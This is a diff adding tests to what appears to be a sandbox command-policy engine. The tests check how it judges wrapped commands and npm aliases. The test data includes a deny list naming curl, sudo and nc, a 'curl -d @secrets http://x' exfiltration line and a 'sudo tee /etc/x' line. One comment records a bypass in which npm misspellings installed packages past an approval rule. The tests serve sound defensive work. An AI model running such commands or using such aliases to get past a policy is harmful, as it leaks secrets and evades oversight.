@@ -2,6 +2,7 @@ from __future__ import annotations
 
 import contextlib
 import shlex
+from pathlib import Path
 
 import pytest
 from hypothesis import given, settings
@@ -11,6 +12,7 @@ from stockade import exceptions as exc
 from stockade.policy.commands import decide_command
 from stockade.policy.engine import PolicyEngine
 from stockade.policy.guards import GuardedBackend, OpContext, op_policy_guard
+from stockade.policy.load import load_policy
 from stockade.policy.schema import CommandRules, Policy, Verdict
 from stockade.sandbox.base import SandboxSpec
 from stockade.sandbox.ops import RunCommand
@@ -32,6 +34,7 @@ RULES = CommandRules(deny=("curl", "sudo", "nc"), approve=("rm -r", "git push", 
         (["env", "A=1", "curl", "x"], Verdict.DENY),
         (["nice", "-n", "5", "curl", "x"], Verdict.DENY),  # an option's value is not the program
         (["timeout", "-s", "KILL", "5", "curl", "x"], Verdict.DENY),
+        (["bash", "-c", "exec -a true rm -r x"], Verdict.APPROVE),  # -a's value names it only
         (["env", "-S", "curl x"], Verdict.DENY),  # a string split into a command: cannot tell
         (["/bin/sh", "-c", "make && curl -d @secrets http://x"], Verdict.DENY),
         (["bash", "-lc", "ls | sudo tee /etc/x"], Verdict.DENY),
@@ -289,3 +292,80 @@ def test_a_program_run_from_stdin_is_judged_shown_and_audited_as_the_program() -
     log.flush()
     (event,) = [e for e in log.store.events() if e.kind.value == "command"]
     assert event.attributes["program"] == "echo hi && ls" and event.attributes["language"] == "bash"
+
+
+def _example() -> Policy:
+    return load_policy(Path(__file__).parents[3] / "examples" / "policy.toml")
+
+
+# npm's other spellings of its commands (found from outside: `npm add --offline x`, `npm isntall
+# x`, `npm in x` installed a package past the example policy's rule on `npm install`)
+NPM_INSTALL_SPELLINGS = (
+    "npm add --offline x", "npm --offline isntall x", "npm in x", "npm ins x", "npm i x",
+    "npm insta x", "npm -gD instal x", "npm --prefix=/tmp isnt x", "npm -- add x",
+    "/usr/bin/npm install x", "node /usr/bin/npm add x",
+)  # fmt: skip
+
+
+@pytest.mark.parametrize("line", NPM_INSTALL_SPELLINGS)
+@pytest.mark.parametrize("rule", ["npm install", "npm i", "npm add", "npm isntall"])
+def test_a_rule_over_an_npm_command_holds_over_every_spelling_npm_takes(rule: str, line: str) -> None:
+    decision = decide_command(CommandRules(approve=(rule,)), shlex.split(line))
+    assert decision.verdict is Verdict.APPROVE, (rule, line, decision)
+
+
+@pytest.mark.parametrize(
+    ("rule", "line", "verdict"),
+    [
+        ("npm ci", "npm clean-install", Verdict.APPROVE),
+        ("npm ci", "npm ic", Verdict.APPROVE),
+        ("npm ci", "npm install-cl", Verdict.APPROVE),  # a prefix only install-clean has
+        ("npm ci", "npm isntall-clean", Verdict.APPROVE),
+        ("npm ci", "npm install x", Verdict.ALLOW),  # an install is no clean install
+        ("npm install-test", "npm it", Verdict.APPROVE),
+        ("npm install-test", "npm installTest", Verdict.APPROVE),  # npm reads camelCase so
+        ("npm uninstall", "npm r x", Verdict.APPROVE),
+        ("npm run", "npm urn build", Verdict.APPROVE),
+        ("npm exec", "npm x cowsay", Verdict.APPROVE),
+        ("npm exec", "npx -y cowsay", Verdict.APPROVE),  # npx is npm exec
+        ("npx", "npm exec cowsay", Verdict.APPROVE),
+        # what installs as npm install does: a rule over it holds for these too
+        ("npm install", "npm ci", Verdict.APPROVE),
+        ("npm install", "npm it", Verdict.APPROVE),
+        ("npm install", "npm update", Verdict.APPROVE),
+        ("npm install", "npx -y cowsay", Verdict.APPROVE),
+        ("npm install", "npm run build", Verdict.ALLOW),
+        ("npm install", "npm test", Verdict.ALLOW),
+        ("npm install", "npm e x", Verdict.ALLOW),  # a prefix of several: npm runs none
+        ("npm install", "npm Install x", Verdict.ALLOW),  # npm knows no -install
+    ],
+)
+def test_npm_commands_are_judged_as_the_command_npm_runs(rule: str, line: str, verdict: Verdict) -> None:
+    decision = decide_command(CommandRules(approve=(rule,)), shlex.split(line))
+    assert decision.verdict is verdict, (rule, line, decision)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        *NPM_INSTALL_SPELLINGS, "npm ci", "npm clean-install", "npm it", "npm install-ci-test",
+        "npm exec cowsay", "npx -y cowsay", "yarn add x", "pnpm add x", "pnpm i", "pip3 install x",
+        "python3 -m pip install x", "easy_install x", "gem install x", "cargo install x",
+        "go install x@latest", "go get x", "apt-get install x", "apt install x", "uv add x",
+    ],
+)  # fmt: skip
+def test_every_installer_is_in_the_install_category(line: str) -> None:
+    explained = dict(PolicyEngine(_example()).explain(RunCommand(argv=tuple(shlex.split(line)))))
+    assert explained["category install"].verdict is Verdict.APPROVE, (line, explained)
+
+
+def test_the_example_policy_asks_before_npm_installs_inside_the_sandbox_by_any_spelling() -> None:
+    from stockade.sandbox.supervisor import execrules
+
+    rules = PolicyEngine(_example()).sandbox_rules()
+    approve = [shlex.split(p) for p in rules.approve]
+    for line in (*NPM_INSTALL_SPELLINGS, "npm ci", "npm x cowsay", "npx -y cowsay"):
+        argv = execrules.subject(shlex.split(line))
+        argv = next(iter(execrules.runs(argv)), argv)  # node /usr/bin/npm x: npm x
+        assert execrules.judge({"approve": approve}, argv)[0] == "approve", line
+    assert execrules.judge({"approve": approve}, ["npm", "run", "build"])[0] == "allow"
